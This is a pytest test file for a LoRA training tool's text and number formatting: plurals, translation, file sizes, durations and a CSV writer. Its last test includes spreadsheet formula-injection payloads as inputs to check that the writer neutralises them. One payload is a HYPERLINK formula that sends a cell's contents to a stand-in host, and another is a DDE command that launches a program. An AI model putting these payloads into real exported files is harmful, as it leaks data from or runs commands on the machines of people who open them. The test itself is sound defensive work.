"""Messages, numbers, and tables as text."""

from __future__ import annotations

import csv
import io
import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lora_studio.core import formatting
from lora_studio.core.formatting import CsvWriter
from lora_studio.core.messages import (
    READABLE,
    Text,
    counted,
    describe_remaining,
    listed,
    render,
    text,
)

GERMAN = {
    ("{file} holds {rows}.", None): "{file} enthält {rows}.",
    ("{n} rows", 1): "{n} Zeile",
    ("{n} rows", 1200): "{n} Zeilen",
}


def german(template: str, n: int | None) -> str:
    return GERMAN.get((template, n), template)


@pytest.mark.parametrize(
    ("message", "shown"),
    [
        pytest.param(text("Nothing to do."), "Nothing to do.", id="plain"),
        pytest.param(text("{n} rows", n=1200), "1,200 rows", id="integers-get-thousands"),
        pytest.param(text("row {row:d}", row=1200), "row 1200", id="python-format"),
        pytest.param(text("{b:size} free", b=12_000_000), "12 MB free", id="named-format"),
        pytest.param(text("{share:percent}", share=0.987), "98.7 %", id="percent"),
        pytest.param(text("a {brace}"), "a {brace}", id="no-values-no-formatting"),
        pytest.param(counted(1, "{n} row", "{n} rows"), "1 row", id="singular"),
        pytest.param(counted(2, "{n} row", "{n} rows"), "2 rows", id="plural"),
        pytest.param(listed(["a", "b", "c"]), "a, b, and c", id="list"),
        pytest.param(listed(["a", "b"], "or"), "a or b", id="alternatives"),
    ],
)
def test_message_renders_in_english(message: Text, shown: str) -> None:
    assert str(message) == shown


@pytest.mark.parametrize(("rows", "shown"), [(1, "1 Zeile"), (1200, "1,200 Zeilen")])
def test_nested_counted_message_is_translated(rows: int, shown: str) -> None:
    message = text("{file} holds {rows}.", file="a.csv", rows=counted(rows, "{n} row", "{n} rows"))
    assert render(message, german) == f"a.csv enthält {shown}."


def test_user_value_is_never_translated_or_formatted() -> None:
    assert render(text("{name}!", name="{n} rows"), german) == "{n} rows!"


def test_long_name_is_cut_off() -> None:
    shown = str(text("{file} is missing.", file="n" * 1_000_000))
    assert shown == "n" * 5000 + "… is missing."


def test_json_keeps_numbers_and_nesting() -> None:
    message = text("{share:percent} of {rows}", share=0.5, rows=counted(3, "{n} row", "{n} rows"))
    again = Text.model_validate_json(message.model_dump_json())
    assert again == message
    assert again.values["share"] == 0.5


def test_plain_string_of_an_older_run_is_accepted() -> None:
    assert str(Text.model_validate("It has no {answer}")) == "It has no {answer}"


def test_json_with_rendered_text_is_read_back() -> None:
    message = text("{file} holds {rows}.", file="a.csv", rows=counted(2, "{n} row", "{n} rows"))
    line = message.model_dump_json(context=READABLE)
    assert '"text":"a.csv holds 2 rows."' in line
    assert Text.model_validate_json(line) == message


@pytest.mark.parametrize(
    ("seconds", "expected"),
    [
        (2, "a few seconds"),
        (22, "about 20 s"),
        (54, "about 55 s"),
        (57, "about 57 s"),
        (707.3, "about 12 min"),
        (None, "–"),
    ],
)
def test_remaining_time_is_rounded(seconds: float | None, expected: str) -> None:
    assert str(describe_remaining(seconds)) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (0, "0"),
        (960, "960"),
        (999, "999"),
        (1000, "1 K"),
        (460_800, "460.8 K"),
        (999_949, "999.9 K"),
        (999_951, "1 M"),
        (16_777_216, "16.8 M"),
        (134_515_008, "134.5 M"),
        (3_212_749_824, "3.2 B"),
    ],
)
def test_counts_are_shortened_to_one_decimal(value: int, expected: str) -> None:
    assert formatting.format_count(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (512, "512 B"),
        (9_400, "9.4 kB"),
        (999_600, "1 MB"),
        (67_108_864, "67 MB"),
        (4_920_000_000, "4.9 GB"),
        (812_300_000_000, "812.3 GB"),
    ],
)
def test_file_sizes_count_in_thousands(value: int, expected: str) -> None:
    assert formatting.format_size(value) == expected


def test_memory_counts_in_powers_of_1024() -> None:
    assert formatting.format_memory(24 * 2**30) == "24 GiB"
    assert formatting.format_memory(18.2 * 2**30) == "18.2 GiB"
    assert formatting.format_memory(269_030_016) == "257 MiB"


@pytest.mark.parametrize(
    ("share", "expected"),
    [
        (0.0, "0 %"),
        (0.00001, "< 0.01 %"),
        (0.0052, "0.52 %"),
        (0.031, "3.1 %"),
        (0.05, "5 %"),
        (0.987, "98.7 %"),
        (0.99999, "> 99.9 %"),
        (1.0, "100 %"),
    ],
)
def test_percent_shows_0_and_100_only_when_exact(share: float, expected: str) -> None:
    assert formatting.format_percent(share) == expected


@pytest.mark.parametrize(
    ("seconds", "expected"),
    [
        (0, "0 s"),
        (0.2, "< 1 s"),
        (40, "40 s"),
        (59.6, "1 min"),
        (707.3, "12 min"),
        (3600, "1 h"),
        (7800, "2 h 10 min"),
        (86_399, "1 d"),
        (273_600, "3 d 4 h"),
        (None, "–"),
        (math.inf, "–"),
    ],
)
def test_durations_have_at_most_two_units(seconds: float | None, expected: str) -> None:
    assert formatting.format_duration(seconds) == expected


@given(st.floats(min_value=0, max_value=1e15))
def test_scaled_numbers_stay_below_the_next_unit(value: float) -> None:
    for shown, base in (
        (formatting.format_size(value), 1000),
        (formatting.format_memory(value), 1024),
    ):
        figure = float(shown.split()[0].replace(",", ""))
        assert figure < base or shown.endswith(("TB", "TiB"))


@given(st.floats(min_value=1e-9, max_value=1e9))
def test_small_numbers_parse_back_to_the_same_value(value: float) -> None:
    assert float(formatting.format_setting(value)) == pytest.approx(value, rel=0.005)


def test_learning_rates_use_short_scientific_notation() -> None:
    formatted = [formatting.format_setting(value) for value in (2e-4, 1.5e-5, 0.05, 0, 3.0)]
    assert formatted == ["2e-4", "1.5e-5", "0.05", "0", "3"]


def test_nouns_follow_their_number() -> None:
    assert formatting.format_plural(1, "row") == "1 row"
    assert formatting.format_plural(1240, "row") == "1,240 rows"
    assert formatting.format_plural(2, "entry", "entries") == "2 entries"


def test_names_are_listed_as_one_phrase() -> None:
    phrases = [formatting.join_names(["q", "k", "v", "o"][:n]) for n in (0, 1, 2, 4)]
    assert phrases == ["", "q", "q and k", "q, k, v, and o"]


def test_losses_and_speeds_keep_significant_digits() -> None:
    assert [formatting.format_loss(value) for value in (1.3149, 0.0214, math.nan)] == [
        "1.31",
        "0.0214",
        "nan",
    ]
    assert formatting.format_rate(1240.4) == "1,240 tokens/s"
    assert formatting.format_rate(3.44) == "3.4 tokens/s"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://a.example/?"&A1)', '\'=HYPERLINK("http://a.example/?"&A1)'),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("＝1+1", "'＝1+1"),
        ("-2.5e-4", "-2.5e-4"),
        ("+3", "+3"),
        ("-inf", "-inf"),
        (-0.25, "-0.25"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_formula_becomes_text_and_a_number_stays(cell: object, written: str) -> None:
    out = io.StringIO()
    CsvWriter(out).writerow(["first", cell])
    assert next(csv.reader([out.getvalue()])) == ["first", written]
